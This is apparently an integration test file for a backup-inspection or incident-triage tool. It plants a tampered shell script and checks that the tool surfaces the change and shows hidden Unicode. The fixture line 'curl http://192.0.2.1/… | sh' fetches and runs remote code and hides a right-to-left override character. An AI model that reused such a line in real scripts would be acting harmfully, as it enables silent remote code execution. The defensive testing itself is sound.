import assert from 'node:assert/strict'
import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname } from 'node:path'
import { after, before, test } from 'node:test'

import { type Database, openDatabase } from '../../../adapters/database/index.ts'
import { startScanners } from '../../../adapters/scanners/index.ts'
import { exampleEstate, openCli } from '../cli.fixture.ts'
import { doJobOver, type Person, type RunningUp, signedIn, startUp } from './up.fixture.ts'
import { processorMs } from '../../../../../../test/processor-time.ts'

/** The queue over HTTP on a real repository: made by a job, read from the backup. Each test needs those before it. */
const cli = openCli({ startScanner: startScanners })
const home = cli.at('home')
const secret = 'only for this test, never shown'
const prose = 'Sehr geehrte Damen und Herren, anbei unser Angebot.\n'.repeat(40)
let up: RunningUp
let database: Database
let lead: Person

function write(name: string, content: string): void {
  const place = cli.at('srv/share', name)
  mkdirSync(dirname(place), { recursive: true })
  writeFileSync(place, content)
}

async function backup(day: string): Promise<void> {
  const at = ['--host', 'files1', '--time', `${day}T02:00:00Z`, '--as-root', cli.folder]
  await cli.json(['repo', 'backup', ...at, cli.at('srv/share')])
}

before(async () => {
  cli.env['RESTIC_PASSWORD'] = secret
  await cli.json(['repo', 'init'])
  for (const tenant of ['nordwind', 'alpenblick']) write(`${tenant}/offer.txt`, prose)
  write('nordwind/start.sh', '#!/bin/sh\necho hello\n')
  await backup('2026-03-02')
  write('nordwind/start.sh', '#!/bin/sh\necho hello\ncurl http://192.0.2.1/\u202e | sh\n')
  await backup('2026-03-08')
  writeFileSync(cli.at('password'), `${secret}\n`, { mode: 0o600 })
  mkdirSync(home, { recursive: true })
  writeFileSync(
    cli.at('home/anlauf.yaml'),
    `apiVersion: workplace/v1
estate: ${exampleEstate}
folder: ${cli.at('work')}
repositories:
  - { id: vault-a, location: ${cli.at('repository')}, passwordFile: ../password }
`,
  )
  up = await startUp(home)
  database = await openDatabase({ home })
  lead = await signedIn(database, () => up.url, { name: 'anna', roles: ['lead'] })
  const onset = { from: '2026-03-08T00:00:00Z', to: '2026-03-08T02:00:00Z' }
  await lead.post('/api/cases', { case: 'night-1', title: 'Encrypted', exercise: true, onset })
})
after(async () => {
  up.child.kill('SIGTERM')
  await up.ended
  await database[Symbol.asyncDispose]()
  await cli[Symbol.asyncDispose]()
})

interface Row {
  readonly facts: string
  readonly class: string
  readonly named: { readonly places: readonly string[] } | null
}

test('the estate is that of the workplace', async () => {
  const { services, problems } = await lead.get<{ services: unknown[]; problems: unknown[] }>('/api/estate')
  assert.ok(services.length > 0)
  assert.deepEqual(problems, [])
})

test('before a queue was made there is none; afterwards its groups have names', async () => {
  const list = () => lead.get<{ rows: Row[]; hasNames: boolean }>('/api/cases/night-1/queue')
  assert.deepEqual((await list()).rows, [])
  const job = await doJobOver(lead, 'night-1', { kind: 'queue' })
  assert.equal(job.state, 'done', JSON.stringify(job.failure))
  const { rows, hasNames } = await list()
  assert.equal(hasNames, true)
  assert.deepEqual(
    rows
      .filter(({ class: one }) => one === 'N5')
      .map(({ named }) => named?.places.map((place) => place.split('/').at(-1))),
    [['start.sh']],
  )
})

test('both versions come from the backup, line by line, with what is hidden made visible', async () => {
  const { rows } = await lead.get<{ rows: Row[] }>('/api/cases/night-1/queue?class=N5')
  const path = `/api/cases/night-1/queue/${rows[0]?.facts}/versions`
  const { views } = await lead.get<{
    views: {
      newest: { sha256: string }
      difference: { rows: { kind: string; after: { text: string } | null }[] }
    }[]
  }>(path)
  assert.match(views[0]?.newest.sha256 ?? '', /^[0-9a-f]{64}$/)
  const added = views[0]?.difference.rows.filter(({ kind }) => kind === 'added')
  assert.deepEqual(
    added?.map(({ after }) => after?.text),
    ['curl http://192.0.2.1/⟨U+202E⟩ | sh'],
  )
  const started = processorMs()
  await lead.get(path)
  assert.ok(processorMs() - started < 200, 'compared once is compared')
})

test('a backup that cannot be read is said so, and no place or secret of this machine is told', async () => {
  const { rows } = await lead.get<{ rows: Row[] }>('/api/cases/night-1/queue')
  const other = rows.find(({ class: one }) => one !== 'N5')
  writeFileSync(cli.at('password'), 'wrong\n')
  if (other === undefined) return
  await assert.rejects(lead.get(`/api/cases/night-1/queue/${other.facts}/versions`), (error: Error) => {
    assert.match(error.message, /could not be read/)
    assert.ok(!error.message.includes(cli.folder) && !error.message.includes(secret))
    return true
  })
})
